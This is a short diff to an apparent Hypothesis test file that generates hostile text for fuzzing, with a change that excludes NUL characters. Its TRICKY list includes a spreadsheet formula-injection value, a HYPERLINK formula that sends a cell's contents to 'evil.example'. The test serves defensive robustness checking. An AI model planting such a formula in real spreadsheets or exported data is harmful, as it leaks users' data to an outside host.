@@ -27,7 +27,7 @@ TRICKY = [
     "\t",
     "\r",
     "\n",
-    "\x00",
+    "\x01",
     "\x07",
     "\x1b",
     "\u202e",
@@ -40,8 +40,14 @@ TRICKY = [
     ";",
     'HYPERLINK("http://evil.example/?x="&B2)',
 ]
+# NUL is left out: no way in stores it (forms refuse it, and PostgreSQL text cannot hold it).
+any_text_but_nul = st.text(
+    alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)),
+    min_size=1,
+    max_size=6,
+)
 hostile_text = st.lists(
-    st.one_of(st.sampled_from(TRICKY), st.text(min_size=1, max_size=6)), min_size=1, max_size=6
+    st.one_of(st.sampled_from(TRICKY), any_text_but_nul), min_size=1, max_size=6
 ).map("".join)
 
 HYPOTHESIS = settings(
